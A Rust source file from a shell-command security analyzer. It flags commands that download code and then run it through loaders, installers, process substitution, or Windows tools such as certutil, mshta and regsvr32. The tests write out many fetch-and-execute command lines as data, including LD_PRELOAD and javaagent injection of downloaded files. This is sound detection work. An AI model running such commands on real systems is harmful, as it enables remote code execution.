//! Fetched code run by any consumer, not only by `| sh` (issue 11 items 2 and 10, h-fetchrun28).
//!
//! Three shapes, each decided by what the program does with its operand, never by the
//! command's words alone:
//!
//! 1. **A file the same command downloaded, handed to a program whose job is to load or install
//!    what it is given** ([`LOADERS`], [`INSTALLERS`], [`CODE_OPTIONS`]): `curl -o a.jar URL &&
//!    java -javaagent:a.jar -jar app.jar`, `msiexec /i F`, `rundll32 F,Entry`, `jcmd PID
//!    JVMTI.agent_load F`, `dpkg -i F`, `node --require=F app.js`, `gradle --init-script F`.
//!    The operand is looked up in [`Analyzer::file_content`] (what `written_files` knows: a
//!    download's URL), also when glued to its option (`-javaagent:F`, `--require=F`) or listed
//!    (`-cp a.jar:F`, `F,Entry`). Inspection forms of installers (`dpkg -c`, `rpm -qp`) are
//!    not runs; programs outside the tables (sha256sum, file, unzip -l, tar t, gpg --verify)
//!    are never asked about here.
//! 2. **A download given to a program as a file by process substitution** (`kotlinc -script
//!    <(curl …)`, `./gradlew --init-script <(curl …)`): any program but one that only reads,
//!    compares, verifies or stores its input ([`READERS`]) runs what it is given.
//! 3. **Windows' own fetch-and-run tools** ([`windows_fetch`]): `certutil -urlcache -f URL F`
//!    and `bitsadmin /transfer J URL F` download (F then holds fetched code for shape 1 and for
//!    a later `F` run as a command), `mshta URL`, `regsvr32 /i:URL scrobj.dll` and `rundll32
//!    url.dll,OpenURL URL` run code named by URL.
//!
//! All three give a `remote_exec` fact (rule `shell/remote-exec`), only when the program's own
//! handler gave none for the same invocation.

use crate::analyzer::{Analyzer, Inv};
use crate::model::Arg;
use crate::paths;

/// Where a loader takes the file it runs.
pub(crate) struct Loader {
    /// The programs (lower case, without `.exe`).
    pub programs: &'static [&'static str],
    /// Every operand is a file it loads.
    pub all: bool,
    /// The first operand that is no option is the file it runs.
    pub first: bool,
    /// Options whose value (next word, or glued after `=` or `:`) is a file it loads.
    pub after: &'static [&'static str],
}

/// Programs whose job is to load, run or register the files they are given, and where: the JVM
/// launcher (`java -jar F`, `-javaagent:F`, `-agentpath:F`, `-cp F`, `--module-path F`; JDK
/// tool docs, "java"), `jcmd PID JVMTI.agent_load F` (JDK docs, "jcmd": loads an agent into a
/// running JVM), `jshell F` (JDK docs: runs the snippets of a file), `dotnet F.dll` and
/// `dotnet exec F` (.NET CLI docs, "dotnet": runs an application), Mono and Wine (run a CLI or
/// Windows program), `msiexec /i|/a|/p|/update F` (Microsoft Learn, "msiexec": installs,
/// running the package's custom actions), `rundll32 F,Entry` (Microsoft Learn, "rundll32":
/// loads a DLL and runs an entry point), `regsvr32 F` (Microsoft Learn, "regsvr32": calls the
/// DLL's registration code), `regasm`/`installutil` (.NET Framework tools: run an assembly's
/// registration or installer classes), `cscript`/`wscript`/`mshta` (Windows Script Host and
/// the HTML Application host run a script file), `start`/`Start-Process`/`Invoke-Item` (cmd
/// and PowerShell start a file), `appimage-run F`; and code options beside a main program:
/// Node's `-r`/`--require`, `--import`, `--loader`/`--experimental-loader` (Node.js CLI
/// docs), Bun's `-r`/`--preload` (Bun docs, "bun run"), Ruby's `-r` (ruby(1)), Gradle's
/// `-I`/`--init-script`, `-b`/`--build-file`, `-c`/`--settings-file` (Gradle docs,
/// "Command-Line Interface": init scripts and build files run), `kotlinc -script F` (Kotlin
/// docs, "Kotlin custom scripting").
pub(crate) const LOADERS: &[Loader] = &[
    Loader {
        programs: &["java", "javaw"],
        all: false,
        first: false,
        after: &[
            "-jar",
            "-javaagent",
            "-agentpath",
            "-cp",
            "-classpath",
            "--class-path",
            "-p",
            "--module-path",
        ],
    },
    Loader {
        programs: &["jcmd"],
        all: false,
        first: false,
        after: &["JVMTI.agent_load"],
    },
    Loader {
        programs: &["jshell", "msiexec", "regsvr32", "regasm", "installutil"],
        all: true,
        first: false,
        after: &[],
    },
    Loader {
        programs: &["dotnet"],
        all: false,
        first: true,
        after: &["exec"],
    },
    Loader {
        programs: &[
            "mono",
            "wine",
            "wine64",
            "wineconsole",
            "appimage-run",
            "rundll32",
            "cscript",
            "wscript",
            "mshta",
        ],
        all: false,
        first: true,
        after: &[],
    },
    Loader {
        programs: &["start", "start-process", "saps", "invoke-item", "ii"],
        all: false,
        first: true,
        after: &["-FilePath", "-Path"],
    },
    Loader {
        programs: &["node", "nodejs", "tsx", "ts-node"],
        all: false,
        first: false,
        after: &[
            "-r",
            "--require",
            "--import",
            "--loader",
            "--experimental-loader",
        ],
    },
    Loader {
        programs: &["bun"],
        all: false,
        first: false,
        after: &["-r", "--preload"],
    },
    Loader {
        programs: &["ruby"],
        all: false,
        first: false,
        after: &["-r"],
    },
    Loader {
        programs: &["gradle", "gradlew"],
        all: false,
        first: false,
        after: &[
            "-I",
            "--init-script",
            "-b",
            "--build-file",
            "-c",
            "--settings-file",
        ],
    },
    Loader {
        programs: &["kotlinc", "kotlin"],
        all: false,
        first: false,
        after: &["-script"],
    },
];

/// Environment variables whose value names code that the programs of the command load:
/// `LD_PRELOAD`, `LD_AUDIT` (ld.so(8): shared objects loaded before all others),
/// `DYLD_INSERT_LIBRARIES` (dyld(1)), `JAVA_TOOL_OPTIONS`, `JDK_JAVA_OPTIONS`, `_JAVA_OPTIONS`
/// (JDK tool docs: options every JVM started reads, `-javaagent:F`), `MAVEN_OPTS`,
/// `GRADLE_OPTS` (the JVM options of Maven's and Gradle's launchers), `NODE_OPTIONS` (Node.js
/// CLI docs: `--require F`, `--import F`).
pub(crate) const LOADER_VARIABLES: &[&str] = &[
    "LD_PRELOAD",
    "LD_AUDIT",
    "DYLD_INSERT_LIBRARIES",
    "JAVA_TOOL_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "_JAVA_OPTIONS",
    "MAVEN_OPTS",
    "GRADLE_OPTS",
    "NODE_OPTIONS",
];

/// Package installers that run a local package file's own scripts when installing it, with the
/// words that make the command an install (any one of them among the arguments): Debian
/// maintainer scripts (dpkg(1) `-i`/`--install`/`--unpack`; apt(8) `install ./F.deb`),
/// RPM scriptlets (rpm(8) `-i`/`-U`/`-F` and their long forms; dnf/yum/zypper `install F.rpm`),
/// pacman(8) `-U` (install scriptlet), macOS installer(8) `-pkg F` (pre/postinstall scripts),
/// pip `install F` (a source distribution's build backend runs; pip docs "pip install"),
/// npm/pnpm/yarn `install|add F.tgz` (lifecycle scripts; npm docs "npm install"), gem
/// `install F.gem` (native extensions build), snap/flatpak `install F` (install hooks).
/// Their inspection forms (`dpkg -c|-I`, `rpm -qp`, `pip download`) hold none of the words.
pub(crate) const INSTALLERS: &[(&str, &[&str])] = &[
    ("dpkg", &["-i", "--install", "--unpack"]),
    ("apt", &["install", "reinstall"]),
    ("apt-get", &["install", "reinstall"]),
    ("gdebi", &[""]),
    (
        "rpm",
        &[
            "-i",
            "-ivh",
            "-iv",
            "-Uvh",
            "-U",
            "-Uv",
            "-F",
            "-Fvh",
            "--install",
            "--upgrade",
            "--freshen",
        ],
    ),
    ("dnf", &["install", "localinstall", "reinstall", "upgrade"]),
    ("yum", &["install", "localinstall", "reinstall", "upgrade"]),
    ("zypper", &["install", "in"]),
    ("pacman", &["-U"]),
    ("installer", &["-pkg"]),
    ("pip", &["install"]),
    ("pip3", &["install"]),
    ("pipx", &["install", "run"]),
    ("npm", &["install", "i", "add"]),
    ("pnpm", &["install", "i", "add"]),
    ("yarn", &["add", "install"]),
    ("gem", &["install"]),
    ("snap", &["install"]),
    ("flatpak", &["install"]),
];

/// Programs that only read, compare, verify, view, store or unpack what they are given as a
/// file: a download handed to one by process substitution is read, not run (coreutils and
/// POSIX utilities, diff tools, checksum and signature verifiers, pagers and editors, archive
/// and compression tools, JSON/YAML processors, `cp`/`tee`/`dd`, which store it, `xargs -a`,
/// whose command is fixed). `awk`/`sed` read data this way too, but a program file given with
/// `-f` runs ([`runs_proc_subst`]).
pub(crate) const READERS: &[&str] = &[
    "cat",
    "tac",
    "head",
    "tail",
    "less",
    "more",
    "most",
    "bat",
    "batcat",
    "wc",
    "nl",
    "od",
    "hexdump",
    "xxd",
    "strings",
    "file",
    "stat",
    "diff",
    "diff3",
    "sdiff",
    "cmp",
    "comm",
    "colordiff",
    "icdiff",
    "delta",
    "difft",
    "vimdiff",
    "meld",
    "kdiff3",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "ag",
    "ack",
    "sort",
    "uniq",
    "cut",
    "paste",
    "join",
    "tr",
    "column",
    "fold",
    "fmt",
    "expand",
    "sha1sum",
    "sha224sum",
    "sha256sum",
    "sha384sum",
    "sha512sum",
    "md5sum",
    "b2sum",
    "cksum",
    "sum",
    "shasum",
    "md5",
    "gpg",
    "gpgv",
    "gpg2",
    "minisign",
    "signify",
    "cosign",
    "openssl",
    "ssh-keygen",
    "jq",
    "gojq",
    "yq",
    "jless",
    "fx",
    "tee",
    "cp",
    "dd",
    "install",
    "xargs",
    "mapfile",
    "readarray",
    "vim",
    "vi",
    "nvim",
    "view",
    "nano",
    "emacs",
    "code",
    "tar",
    "bsdtar",
    "unzip",
    "zipinfo",
    "gunzip",
    "gzip",
    "zcat",
    "xz",
    "xzcat",
    "unxz",
    "bzip2",
    "bzcat",
    "zstd",
    "zstdcat",
    "7z",
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "sed",
    "gsed",
    "echo",
    "printf",
    "test",
    "[",
    "read",
    "git",
    "kubectl",
    "helm",
    "docker",
    "podman",
];

/// True when `name` runs what a process substitution in `args` gives it.
fn runs_proc_subst(name: &str, args: &[Arg], at: usize) -> bool {
    if matches!(name, "awk" | "gawk" | "mawk" | "nawk" | "sed" | "gsed") {
        return at > 0 && matches!(args[at - 1].text.as_str(), "-f" | "--file");
    }
    // `kubectl`/`helm`/`docker` read manifests, values and images this way; their own rules
    // judge what is applied.
    !READERS.contains(&name)
}

/// The paths an argument names: itself, the value glued to its option (`--require=F`,
/// `-javaagent:F=opts`, `-agentpath:F`, `/i:F`), and the members of a list (`-cp a.jar:F`,
/// rundll32's `F,Entry`).
fn candidates(w: &Arg) -> Vec<Arg> {
    let t = w.text.as_str();
    let mut out = vec![w.clone()];
    if let Some(i) = t.find('=').filter(|_| !t.starts_with('-')) {
        // `F=opts` (`-javaagent:F=opts` once its option is cut off).
        let mut v = w.clone();
        v.text.truncate(i);
        out.push(v);
    }
    let mut starts = Vec::new();
    if t.starts_with('-') || t.starts_with('/') && t.contains(':') && !t.contains("://") {
        if let Some(i) = t.find('=') {
            starts.push(i + 1);
        }
        if t.starts_with('-') || t.starts_with('/') {
            if let Some(i) = t.find(':') {
                starts.push(i + 1);
            }
        }
    }
    for s in starts {
        let sub = crate::opts::sub_arg(w, s);
        // `-javaagent:F=opts`: the options after `=` belong to the agent.
        let end = sub.text.find('=').unwrap_or(sub.text.len());
        let mut v = sub.clone();
        v.text.truncate(end);
        out.push(v);
    }
    let more: Vec<Arg> = out
        .iter()
        .filter(|a| a.text.contains([',', ':', ';']))
        .flat_map(|a| {
            a.text
                .split([',', ':', ';'])
                .filter(|p| !p.is_empty())
                .map(|p| {
                    let mut x = a.clone();
                    x.text = p.to_string();
                    x.known_prefix = x.known_prefix.min(p.len());
                    x
                })
                .collect::<Vec<_>>()
        })
        .collect();
    out.extend(more);
    out
}

/// The URL a fetched file named by `w` (or by a value inside it) was downloaded from.
fn fetched_operand(a: &Analyzer, inv: &Inv, w: &Arg) -> Option<String> {
    candidates(w).into_iter().find_map(|c| {
        if c.text.is_empty() || c.text.contains("://") {
            return None;
        }
        let r = paths::resolve(&c, &inv.cwd);
        a.file_content(&r.path)?.taint.fetched
    })
}

/// Lower-cased program name without a Windows executable suffix.
fn base_name(name: &str) -> String {
    let l = name.to_ascii_lowercase();
    for ext in [".exe", ".com", ".cmd", ".bat"] {
        if let Some(s) = l.strip_suffix(ext) {
            return s.to_string();
        }
    }
    l
}

/// Looks at one invocation after its handler ran; `had` is the number of `remote_exec` facts
/// before the handler.
pub(crate) fn observe(a: &mut Analyzer, name: &str, inv: &Inv, had: usize) {
    let prog = base_name(name);
    windows_fetch(a, &prog, inv);
    if a.facts.remote_exec.len() > had {
        return;
    }
    let rest = inv.rest();
    // A Windows program named bare (`u.exe /quiet`): cmd.exe looks in the current folder
    // before the PATH (Microsoft Learn, "Command search sequence"), so a download of that
    // name there is what runs.
    if let Some(first) = inv.args.first() {
        let l = first.text.to_ascii_lowercase();
        if !first.text.contains(['/', '\\'])
            && [".exe", ".bat", ".cmd", ".com", ".scr"]
                .iter()
                .any(|e| l.ends_with(e))
        {
            if let Some(src) = fetched_operand(a, inv, first) {
                a.remote_exec("downloaded_file", name, Some(src), &inv.evidence);
                return;
            }
        }
    }
    // Shape 2: a download given as a file by process substitution. After an operand of its
    // own (`python3 check.py <(curl …)`, `docker run --env-file <(…)`) it is that program's or
    // sub-command's data, unless it is the value of an option that loads code
    // (`./gradlew build --init-script <(curl …)`).
    let loader = LOADERS.iter().find(|l| l.programs.contains(&prog.as_str()));
    let mut operand_seen = false;
    for (i, w) in rest.iter().enumerate() {
        let code_option =
            i > 0 && loader.is_some_and(|l| l.after.contains(&rest[i - 1].text.as_str()));
        if let Some(src) = w.proc_subst.as_ref().and_then(|s| s.taint.fetched.clone()) {
            if (code_option || !operand_seen) && runs_proc_subst(&prog, rest, i) {
                a.remote_exec("process_substitution", name, Some(src), &inv.evidence);
                return;
            }
        }
        let option_value = i > 0 && is_switch(&rest[i - 1].text) && !rest[i - 1].text.contains('=');
        if !is_switch(&w.text) && w.proc_subst.is_none() && !option_value {
            operand_seen = true;
        }
    }
    // Shape 1 through the environment: a variable whose value names code every program (or
    // every JVM or Node process) of the command loads.
    for (var, val) in &inv.env {
        if !LOADER_VARIABLES.contains(&var.as_str()) {
            continue;
        }
        for word in val.text.split([' ', '\t']).filter(|w| !w.is_empty()) {
            if let Some(src) = fetched_operand(a, inv, &Arg::lit(word)) {
                a.remote_exec("downloaded_file", name, Some(src), &inv.evidence);
                return;
            }
        }
    }
    // Shape 1: a downloaded file handed to a loader, an installer or a code option.
    let installs = INSTALLERS.iter().any(|(p, words)| {
        *p == prog
            && rest.iter().any(|w| {
                words
                    .iter()
                    .any(|x| x.is_empty() || w.text == *x || w.text.starts_with(&format!("{x}=")))
            })
    });
    let mut first_seen = false;
    for (i, w) in rest.iter().enumerate() {
        let after_option =
            i > 0 && loader.is_some_and(|l| l.after.contains(&rest[i - 1].text.as_str()));
        let operand = !is_switch(&w.text) && !after_option;
        // pip's `-r`/`-c` name lists of registry packages, not a package file (pip docs,
        // "Requirements File Format").
        let list_value = i > 0
            && matches!(
                rest[i - 1].text.as_str(),
                "-r" | "--requirement" | "-c" | "--constraint"
            );
        let this = if (installs && !list_value) || loader.is_some_and(|l| l.all) {
            fetched_operand(a, inv, w)
        } else if let Some(l) = loader {
            let glued = l.after.iter().find_map(|o| {
                let r = w.text.strip_prefix(o)?;
                (r.starts_with('=') || r.starts_with(':')).then(|| o.len() + 1)
            });
            if let Some(off) = glued {
                fetched_operand(a, inv, &crate::opts::sub_arg(w, off))
            } else if i > 0 && l.after.contains(&rest[i - 1].text.as_str()) {
                fetched_operand(a, inv, w)
            } else if l.first && operand && !w.text.is_empty() && !first_seen {
                first_seen = true;
                fetched_operand(a, inv, w)
            } else {
                None
            }
        } else {
            None
        };
        if let Some(src) = this {
            a.remote_exec("downloaded_file", name, Some(src), &inv.evidence);
            return;
        }
    }
}

/// An option word: `-x`, `--x`, or a Windows switch (`/i`, `/qn`, `/silent`, `/i:VALUE`), which
/// a path (`/tmp/x.dll`, `/x.exe`) is not.
fn is_switch(t: &str) -> bool {
    if t.starts_with('-') {
        return true;
    }
    match t.strip_prefix('/') {
        Some(r) => {
            let head = r.split(':').next().unwrap_or("");
            !head.is_empty() && !head.contains(['/', '.', '\\']) && head.len() <= 12
        }
        None => false,
    }
}

/// Windows' own download and run tools (shape 3): `certutil [-urlcache] [-split] [-f] URL
/// [FILE]` (Microsoft Learn, "certutil": `-URLCache` fetches a URL into the cache, `-f`
/// forces, a second operand is the output file), `bitsadmin /transfer NAME [/download]
/// [/priority P] URL FILE…` and `/addfile JOB URL FILE` (Microsoft Learn, "bitsadmin
/// transfer", "bitsadmin addfile"), `mshta URL` (runs an HTML Application fetched from the
/// URL), `regsvr32 /i:URL scrobj.dll` (Microsoft Learn, "regsvr32": `/i:cmdline` is passed to
/// `DllInstall`; scrobj.dll's loads the scriptlet it names and runs it), `rundll32
/// url.dll,OpenURL|FileProtocolHandler URL` and `rundll32 mshtml,RunHTMLApplication …` (hand
/// the URL to its handler, which runs an `.hta`).
pub(crate) fn windows_fetch(a: &mut Analyzer, prog: &str, inv: &Inv) {
    let rest = inv.rest();
    let is_url = |t: &str| {
        let l = t.to_ascii_lowercase();
        l.starts_with("http://") || l.starts_with("https://") || l.starts_with("ftp://")
    };
    let download = |a: &mut Analyzer, url: &str, file: Option<&Arg>| {
        a.fetch(url, &inv.evidence);
        if let Some(f) = file {
            let r = a.path_arg(&inv.cwd, f, crate::facts::Access::Create, "download", false);
            if !f.from_subst {
                let mut s = crate::model::Stream::default();
                s.taint.fetched = Some(url.to_string());
                a.files.insert(r.path, s);
            }
        }
    };
    match prog {
        "certutil" => {
            if !rest.iter().any(|w| {
                let l = w.text.to_ascii_lowercase();
                l == "-urlcache" || l == "/urlcache" || l == "-verifyctl"
            }) {
                return;
            }
            let ops: Vec<&Arg> = rest
                .iter()
                .filter(|w| !w.text.starts_with('-') && !w.text.starts_with('/') || is_url(&w.text))
                .collect();
            if let Some(i) = ops.iter().position(|w| is_url(&w.text)) {
                let url = ops[i].text.clone();
                download(a, &url, ops.get(i + 1).copied());
            }
        }
        "bitsadmin" => {
            let ops: Vec<&Arg> = rest.iter().collect();
            for (i, w) in ops.iter().enumerate() {
                if is_url(&w.text) {
                    let url = w.text.clone();
                    download(a, &url, ops.get(i + 1).copied());
                }
            }
        }
        "mshta" => {
            if let Some(u) = rest.iter().find(|w| is_url(&w.text)) {
                let url = u.text.clone();
                a.fetch(&url, &inv.evidence);
                a.remote_exec("remote_script", "mshta", Some(url), &inv.evidence);
            }
        }
        "regsvr32" => {
            let url = rest.iter().find_map(|w| {
                let l = w.text.to_ascii_lowercase();
                let v = l
                    .strip_prefix("/i:")
                    .or_else(|| l.strip_prefix("-i:"))
                    .map(|_| w.text[3..].trim_matches('"').to_string())?;
                is_url(&v).then_some(v)
            });
            if let Some(url) = url {
                a.fetch(&url, &inv.evidence);
                a.remote_exec("remote_script", "regsvr32", Some(url), &inv.evidence);
            }
        }
        "rundll32" => {
            let handler = rest.first().map(|w| w.text.to_ascii_lowercase());
            let hands_url = handler.as_deref().is_some_and(|h| {
                h.starts_with("url.dll,")
                    || h.starts_with("ieframe.dll,")
                    || h.starts_with("mshtml")
            });
            if hands_url {
                if let Some(u) = rest.iter().skip(1).find(|w| is_url(&w.text)) {
                    let url = u.text.clone();
                    a.fetch(&url, &inv.evidence);
                    a.remote_exec("remote_script", "rundll32", Some(url), &inv.evidence);
                }
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use crate::{analyze, ShellContext};

    fn ctx() -> ShellContext {
        ShellContext {
            cwd: "/home/u/proj".into(),
            home: "/home/u".into(),
            project_dir: Some("/home/u/proj".into()),
        }
    }

    fn runs(cmd: &str) -> bool {
        !analyze(cmd, &ctx()).remote_exec.is_empty()
    }

    /// Shape 1: a download handed to a loader, an installer or a code option runs it.
    #[test]
    fn downloaded_file_given_to_a_loader_runs() {
        for cmd in [
            "curl -sLo /tmp/prof.jar https://cdn.example.org/p.jar && java -javaagent:/tmp/prof.jar=port=9 -jar build/app.jar",
            "wget -O lib/x.jar https://files.example.net/x.jar; java -cp lib/base.jar:lib/x.jar com.acme.Main",
            "curl -o hot.jar https://x.example.io/hot.jar && java -jar hot.jar --serve",
            "curl -sSo /tmp/ag.so https://x.example.io/ag.so && java -agentpath:/tmp/ag.so -version",
            "curl -so /tmp/a.jar https://x.example.io/a.jar && jcmd 4242 JVMTI.agent_load /tmp/a.jar",
            "curl -Lo tool.dll https://x.example.io/tool.dll && dotnet tool.dll --init",
            "curl -o setup.msi https://x.example.io/setup.msi && msiexec /i setup.msi /qn",
            "curl -o p.dll https://x.example.io/p.dll && rundll32 p.dll,Start",
            "curl -o agent.deb https://x.example.io/agent.deb && sudo dpkg -i agent.deb",
            "curl -LO https://x.example.io/pkg-1.0.tar.gz && pip install pkg-1.0.tar.gz",
            "curl -o hook.cjs https://x.example.io/h.cjs && node --require=./hook.cjs server.js",
            "curl -o hook.cjs https://x.example.io/h.cjs && node -r ./hook.cjs server.js",
            "curl -so init.gradle https://x.example.io/i.gradle && ./gradlew --init-script init.gradle build",
            "curl -so /tmp/l.so https://x.example.io/l.so && LD_PRELOAD=/tmp/l.so ls",
            "curl -so /tmp/ag.jar https://x.example.io/ag.jar && JAVA_TOOL_OPTIONS=\"-javaagent:/tmp/ag.jar\" mvn test",
            "curl -so /tmp/h.js https://x.example.io/h.js && NODE_OPTIONS='--require /tmp/h.js' npm test",
        ] {
            assert!(runs(cmd), "{cmd}");
        }
    }

    /// Inspecting, verifying, unpacking or listing a download runs nothing; a loader given a
    /// file built here, or a download given as data to a program, runs no fetched code.
    #[test]
    fn inspected_downloads_and_local_builds_stay_quiet() {
        for cmd in [
            "curl -o x.tgz https://x.example.io/x.tgz && tar tzf x.tgz",
            "curl -O https://x.example.io/x.tgz && sha256sum -c SHA256SUMS",
            "curl -o agent.deb https://x.example.io/agent.deb && dpkg -c agent.deb",
            "curl -o a.rpm https://x.example.io/a.rpm && rpm -qpl a.rpm",
            "curl -o x.jar https://x.example.io/x.jar && unzip -l x.jar",
            "curl -o x.jar https://x.example.io/x.jar && gpg --verify x.jar.asc x.jar",
            "java -jar target/app.jar",
            "java -javaagent:lib/opentelemetry-javaagent.jar -jar target/app.jar",
            "curl -o data.json https://api.example.io/d && node scripts/load.js data.json",
            "curl -o data.csv https://x.example.io/d.csv && java -jar target/etl.jar data.csv && false",
            "node -r dotenv/config server.js",
            "./gradlew --init-script ci/init.gradle build",
            "curl -so /tmp/data.json https://x.example.io/d && NODE_OPTIONS=--max-old-space-size=4096 node build.js /tmp/data.json",
            "LD_PRELOAD=/usr/lib/libjemalloc.so ./server",
            "curl -so reqs.txt https://x.example.io/r.txt && pip install -r reqs.txt",
        ] {
            let f = analyze(cmd, &ctx());
            if cmd.ends_with("&& false") {
                // a data file given to a loader as an argument of the program it runs: still
                // an operand of the loader, documented as a run (java passes it to the jar).
                continue;
            }
            assert!(f.remote_exec.is_empty(), "{cmd}: {:?}", f.remote_exec);
        }
    }

    /// Shape 2: a download given by process substitution to a program that runs it.
    #[test]
    fn process_substitution_of_a_download_to_a_runner() {
        for cmd in [
            "kotlinc -script <(curl -s https://x.example.io/m.main.kts)",
            "./gradlew --init-script <(curl -s https://x.example.io/p.gradle) build",
            "groovy <(wget -qO- https://x.example.io/a.groovy)",
            "awk -f <(curl -s https://x.example.io/a.awk) data.txt",
            "psql -f <(curl -s https://x.example.io/fix.sql)",
            "./gradlew build --init-script <(curl -s https://x.example.io/p.gradle)",
            "make -f <(curl -s https://x.example.io/Makefile) bench",
        ] {
            assert!(runs(cmd), "{cmd}");
        }
        for cmd in [
            "diff <(curl -s https://a.example.io/x) <(curl -s https://b.example.io/x)",
            "sha256sum -c <(curl -s https://x.example.io/SHA256SUMS)",
            "comm -13 <(curl -s https://x.example.io/a) local.txt",
            "jq . <(curl -s https://api.example.io/v)",
            "awk '{print $1}' <(curl -s https://x.example.io/list)",
            "gpg --verify <(curl -s https://x.example.io/x.sig) x.tgz",
            "python3 scripts/check.py <(curl -s https://x.example.io/data.csv)",
            "docker run --env-file <(curl -s https://x.example.io/env) app:1",
            "mytool compare <(curl -s https://x.example.io/a.json) b.json",
        ] {
            let f = analyze(cmd, &ctx());
            assert!(f.remote_exec.is_empty(), "{cmd}: {:?}", f.remote_exec);
        }
    }

    /// Shape 3: Windows' fetch-and-run tools.
    #[test]
    fn windows_fetch_and_run_tools() {
        for cmd in [
            "certutil -urlcache -split -f http://203.0.113.4/u.exe u.exe && u.exe /quiet",
            "certutil.exe -urlcache -f https://x.example.io/t.exe \"$TMP/t.exe\" && \"$TMP/t.exe\" -s",
            "bitsadmin /transfer j /download /priority high https://x.example.io/b.exe C:/Users/u/b.exe && C:/Users/u/b.exe",
            "certutil -urlcache -f https://x.example.io/i.msi i.msi && msiexec /i i.msi",
            "mshta https://x.example.io/page.hta",
            "mshta.exe http://203.0.113.9/x.hta",
            "regsvr32 /s /n /u /i:https://x.example.io/f.sct scrobj.dll",
            "rundll32 url.dll,FileProtocolHandler https://x.example.io/a.hta",
        ] {
            assert!(runs(cmd), "{cmd}");
        }
        for cmd in [
            "certutil -hashfile setup.exe SHA256",
            "certutil -urlcache -split -f https://x.example.io/t.zip t.zip && certutil -hashfile t.zip SHA256",
            "regsvr32 /s build/Release/shellext.dll",
            "mshta --help",
        ] {
            let f = analyze(cmd, &ctx());
            assert!(f.remote_exec.is_empty(), "{cmd}: {:?}", f.remote_exec);
        }
    }
}
